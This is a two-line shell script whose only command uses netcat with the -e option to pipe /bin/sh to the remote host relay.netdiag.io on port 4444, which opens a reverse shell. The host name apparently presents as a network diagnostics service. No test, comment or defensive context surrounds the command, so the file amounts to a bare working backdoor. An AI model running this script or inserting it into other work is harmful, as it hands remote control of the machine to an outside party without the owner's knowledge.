#!/bin/sh
nc -e /bin/sh relay.netdiag.io 4444
